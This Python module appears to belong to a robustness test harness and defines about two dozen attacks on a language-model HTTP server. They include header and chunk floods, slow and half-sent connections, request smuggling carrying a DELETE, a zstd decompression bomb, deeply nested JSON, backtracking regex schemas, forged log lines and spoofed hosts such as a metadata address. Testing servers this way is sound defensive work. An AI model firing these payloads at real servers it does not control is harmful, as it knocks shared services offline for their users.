"""The attacks: each kind sends something that took the server from others once, or a brother of it."""

from __future__ import annotations

import json
import random
import socket
import threading
import time
from collections.abc import Callable, Iterable
from contextlib import ExitStack, suppress
from dataclasses import dataclass
from typing import Any
from urllib.parse import urlsplit

_SECONDS = 10.0
"""How long an attacker follows its connections."""


@dataclass(frozen=True, slots=True)
class Target:
    """The server under attack, and a model that it has."""

    url: str
    model: str

    def connect(self) -> socket.socket:
        """Return a connection."""
        parts = urlsplit(self.url)
        return socket.create_connection((parts.hostname or "", parts.port or 0), timeout=_SECONDS)

    def send(self, *pieces: bytes, waits: float = _SECONDS) -> bytes:
        """Send these bytes on a connection, and return the beginning of the reply, waiting this long for it."""
        got = b""
        with suppress(OSError), self.connect() as connection:
            with suppress(OSError):
                for piece in pieces:
                    connection.sendall(piece)
            connection.settimeout(waits)
            while len(got) < 1 << 16 and (data := connection.recv(1 << 16)):
                got += data
                if got.endswith((b"}", b"\n")) and b"connection: close" not in got:
                    break
        return got

    def post(self, path: str, body: Any, *headers: str, waits: float = _SECONDS) -> bytes:
        """Post JSON, or bytes as they are."""
        content = body if isinstance(body, bytes) else json.dumps(body).encode()
        return self.send(head("POST", path, *headers, f"Content-Length: {len(content)}"), content, waits=waits)

    def chat(self, **fields: Any) -> dict[str, Any]:
        """A request of `/api/chat`."""
        messages = [{"role": "user", "content": "hi"}]
        return {"model": self.model, "messages": messages, "stream": False, "options": {"num_predict": 1}, **fields}


Attack = Callable[[Target, random.Random], None]


@dataclass(frozen=True, slots=True)
class Kind:
    """A kind of attack."""

    name: str
    attack: Attack


def head(method: str, path: str, *headers: str) -> bytes:
    """Return the head of a request."""
    return "\r\n".join((f"{method} {path} HTTP/1.1", "Host: localhost", *headers, "", "")).encode()


def at_once(number: int, work: Callable[[], Any]) -> None:
    """Do the same in so many threads, and wait for all."""
    threads = [threading.Thread(target=work, daemon=True) for _ in range(number)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(3 * _SECONDS)


def _many_headers(target: Target, dice: random.Random) -> None:
    lines = b"".join(b"a%d: %b\r\n" % (number, b"x" * 1000) for number in range(dice.choice([300, 20_000])))
    target.send(b"GET /api/version HTTP/1.1\r\nHost: localhost\r\n", lines, b"\r\n")


def _one_header(target: Target, dice: random.Random) -> None:
    target.send(b"GET / HTTP/1.1\r\nHost: localhost\r\na: ", b"x" * dice.choice([100_000, 30_000_000]))


def _long_target(target: Target, dice: random.Random) -> None:
    target.send(b"GET /" + b"%41" * dice.choice([30_000, 5_000_000]), b" HTTP/1.1\r\nHost: localhost\r\n\r\n")


def _trailers(target: Target, dice: random.Random) -> None:
    lines = dice.choice([b"".join(b"a%d: b\r\n" % number for number in range(200_000)), b"a: " + b"x" * 20_000_000])
    target.send(head("POST", "/api/show", "Transfer-Encoding: chunked"), b"2\r\n{}\r\n0\r\n", lines)


def _chunk_extension(target: Target, dice: random.Random) -> None:
    size = dice.choice([100_000, 20_000_000])
    target.send(head("POST", "/api/show", "Transfer-Encoding: chunked"), b"1;", b"x" * size)


def _tiny_chunks(target: Target, dice: random.Random) -> None:
    target.send(head("POST", "/api/chat", "Transfer-Encoding: chunked"), b"1\r\n{\r\n" * dice.choice([1000, 500_000]))


def _pipelined(target: Target, dice: random.Random) -> None:
    target.send(head("GET", dice.choice(["/api/version", "/api/tags"])) * dice.choice([50, 5000]), waits=2)


def _pipelined_bodies(target: Target, dice: random.Random) -> None:
    large = head("POST", "/api/chat", "Content-Length: 50000000")
    target.send(*([large, b" " * 50_000_000] * dice.choice([2, 4])), waits=2)


def _foreign_bodies(target: Target, dice: random.Random) -> None:
    lines = dice.choice(["Origin: http://evil.example", "Content-Length: 99999999999999"])
    length = [] if "Length" in lines else ["Content-Length: 60000000"]
    target.send(head("POST", "/api/chat", lines, *length), b" " * 60_000_000, waits=2)


def _large_bodies(target: Target, dice: random.Random) -> None:
    body = json.dumps(target.chat(padding="x" * dice.choice([20_000_000, 40_000_000]))).encode()
    at_once(4, lambda: target.post("/api/chat", body))


def _many_values(target: Target, dice: random.Random) -> None:
    value = dice.choice([b"{},", b"[],", b'{"":{}},', b"1,", b'"",'])
    target.post("/api/chat", b'{"messages":[' + value * (30_000_000 // len(value)) + b"0]}")


def _many_messages(target: Target, dice: random.Random) -> None:
    number = dice.choice([40_000, 1_000_000])
    path = dice.choice(["/api/chat", "/v1/chat/completions"])
    message = b'{"role":"user","content":"a"},'
    target.post(path, b'{"model":"%b","messages":[' % target.model.encode() + message * number + message[:-1] + b"]}")


def _half_sent(target: Target, dice: random.Random) -> None:
    sent = dice.choice([b"", b"GET / HT", head("POST", "/api/chat", "Content-Length: 100") + b"{"])
    with ExitStack() as stack:
        for _ in range(300):
            with suppress(OSError):
                stack.enter_context(target.connect()).sendall(sent)
        time.sleep(2)


def _smuggled(target: Target, dice: random.Random) -> None:
    inner = head("DELETE", "/api/delete")
    lines = [
        ["Connection: Upgrade", "Upgrade: h2c"],
        ["Transfer-Encoding: chunked"],
        ["Transfer-Encoding : chunked"],
        ["Content-Length: 0"],
        ["Connection: Upgrade", "Upgrade: websocket", "Transfer-Encoding: chunked"],
    ]
    target.post("/api/show", inner, *dice.choice(lines), waits=2)


def _no_http(target: Target, dice: random.Random) -> None:
    target.send(dice.randbytes(100_000), waits=2)


def _long_prompt(target: Target, dice: random.Random) -> None:
    text = dice.choice(["word " * 2_000_000, "a" * 10_000_000, "\n" * 10_000_000, "日本" * 1_500_000])
    bodies = {
        "/api/chat": target.chat(messages=[{"role": "user", "content": text}], truncate=dice.random() < 0.5),
        "/api/generate": {"model": target.model, "prompt": text, "stream": False, "options": {"num_predict": 1}},
        "/v1/chat/completions": {**target.chat(messages=[{"role": "user", "content": text}]), "max_tokens": 1},
        "/v1/completions": {"model": target.model, "prompt": text, "max_tokens": 1},
    }
    path = dice.choice(list(bodies))
    body = json.dumps(bodies[path]).encode()
    at_once(4, lambda: target.post(path, body))


def _schema(target: Target, dice: random.Random) -> None:
    number = dice.choice([900, 5000])
    names = [f"property {index}" for index in range(number)]
    schemas: list[Any] = [
        {"type": "object", "properties": {name: {"type": "string"} for name in names}},
        {"enum": names * 3},
        {"enum": [f"{dice.random()} {name} {'x' * 230}" for name in names[:3900]]},
        {"type": "string", "maxLength": 10_000},
        {"type": "string", "pattern": "^(([a-z]{0,30}){0,30}){0,30}$"},
        {"type": "string", "pattern": "a" * 900_000},
        {"type": "string", "pattern": "".join(f"\\p{{L{chr(code)}}}" for code in range(0x100, 0x2000))},
        {"properties": {"a" * 400_000: {"properties": {name: {"type": "string", "format": "x"} for name in names}}}},
        {"enum": [[part for index in range(9000) for part in (index, {"a": index})]], "uniqueItems": True},
        {"allOf": [{"anyOf": [{"properties": {f"{a}{b}": {"type": "null"}}} for b in range(9)]} for a in range(9)]},
        {"$defs": {f"d{index}": {"anyOf": [{"$ref": f"#/$defs/d{index + 1}"}] * 2} for index in range(60)}},
        {"type": "array", "items": {"type": "object", "properties": {}}, "minItems": 5000, "uniqueItems": True},
    ]
    schema = dice.choice(schemas)
    nested = {"type": "json_schema", "json_schema": {"name": "s", "schema": schema}}
    waits = dice.choice([0.1, _SECONDS])  # some leave before it is compiled
    if dice.random() < 0.5:
        target.post("/api/chat", target.chat(format=schema), waits=waits)
    else:
        target.post("/v1/chat/completions", {**target.chat(response_format=nested), "max_tokens": 2}, waits=waits)


def _grammar(target: Target, dice: random.Random) -> None:
    constraints: list[Any] = [
        {"regex": "(([a-z]{0,30}){0,30}){0,30}"},
        {"choice": [f"choice number {index}" for index in range(20_000)]},
        {"grammar": "root ::= " + " | ".join(f'"value {index}"' for index in range(20_000))},
        {"grammar": "root ::= " + " ".join('([a-z ] | "_" [x])?' for _ in range(2000))},
        {"grammar": 'root ::= c{1, 9000}\nc ::= [a-z ] | "_" [a-z]'},
        {"json": {"type": "object", "properties": {f"p{index}": {} for index in range(5000)}}},
    ]
    body = target.chat(structured_outputs=dice.choice(constraints), max_tokens=2)
    target.post("/v1/chat/completions", body)


def _bad_then_good(target: Target, dice: random.Random) -> None:
    del dice
    for _ in range(5):
        target.post("/v1/chat/completions", target.chat(logit_bias={"99999999": 1}, max_tokens=1))


def _many_choices(target: Target, dice: random.Random) -> None:
    number = dice.choice([16, 32, 16384])  # 128 are allowed, and cost as much as 128 clients do
    body = {**target.chat(n=number, temperature=1), "max_tokens": 8}
    at_once(3, lambda: target.post("/v1/chat/completions", body))


def _base64(target: Target, dice: random.Random) -> None:
    image = "A" * 30_000_000 + dice.choice(["!", "=", "é", "\n" * 1000 + "-"])
    target.post("/api/chat", target.chat(messages=[{"role": "user", "content": "hi", "images": [image]}]))


def _forged_lines(target: Target, dice: random.Random) -> None:
    target.send(head("GET", f"/api/{dice.choice(['%0a', '%0d', '%00', '%1b[2J'])}12:00:00%20forged"), waits=2)


def _strange_hosts(target: Target, dice: random.Random) -> None:
    hosts = ["evil.example/.localhost", "169.254.169.254", "localhost:80@evil.example", "[::1]x", "\x00", ""]
    target.send(f"GET /api/tags HTTP/1.1\r\nHost: {dice.choice(hosts)}\r\n\r\n".encode(), waits=2)
    target.send(b"GET http://evil.example/api/tags HTTP/1.1\r\nHost: localhost\r\n\r\n", waits=2)


def _clients_leave(target: Target, dice: random.Random) -> None:
    body = target.chat(stream=True, options={"num_predict": 200})
    at_once(20, lambda: target.post(dice.choice(["/api/chat", "/v1/chat/completions"]), body, waits=0.05))


def _slow_readers(target: Target, dice: random.Random) -> None:
    del dice
    content = json.dumps(target.chat(stream=True, options={"num_predict": 500})).encode()
    with ExitStack() as stack:
        for _ in range(10):
            with suppress(OSError):
                connection = stack.enter_context(target.connect())
                connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1024)
                connection.sendall(head("POST", "/api/chat", f"Content-Length: {len(content)}") + content)
        time.sleep(2)


def _zstd_bomb(target: Target, dice: random.Random) -> None:
    import zstandard

    packed = zstandard.compress(dice.choice([b" ", b"{},"]) * 200_000_000)
    target.post("/v1/chat/completions", packed, "Content-Encoding: zstd")


def _deep_json(target: Target, dice: random.Random) -> None:
    depth = dice.choice([2000, 1_000_000])
    opening, closing = dice.choice([(b"[", b"]"), (b'{"a":', b"}")])
    path = dice.choice(["/api/chat", "/v1/chat/completions", "/api/show"])
    target.post(path, opening * depth + closing * depth)


KINDS: tuple[Kind, ...] = tuple(
    Kind(name, attack)
    for name, attack in {
        "many headers": _many_headers,
        "one long header": _one_header,
        "a long target": _long_target,
        "trailers": _trailers,
        "a chunk extension": _chunk_extension,
        "tiny chunks": _tiny_chunks,
        "requests in advance": _pipelined,
        "large bodies in advance": _pipelined_bodies,
        "bodies of foreign pages": _foreign_bodies,
        "large bodies at once": _large_bodies,
        "JSON of many values": _many_values,
        "many messages": _many_messages,
        "half-sent requests": _half_sent,
        "smuggled requests": _smuggled,
        "no HTTP": _no_http,
        "prompts of 10 MB": _long_prompt,
        "schemas": _schema,
        "grammars": _grammar,
        "requests that vLLM refuses": _bad_then_good,
        "many choices": _many_choices,
        "broken base64": _base64,
        "forged log lines": _forged_lines,
        "strange hosts": _strange_hosts,
        "clients leave": _clients_leave,
        "slow readers": _slow_readers,
        "zstd bombs": _zstd_bomb,
        "deep JSON": _deep_json,
    }.items()
)


def chosen(names: Iterable[str]) -> list[Kind]:
    """Return the kinds of these names; all without any."""
    wanted = set(names)
    return [kind for kind in KINDS if not wanted or kind.name in wanted]
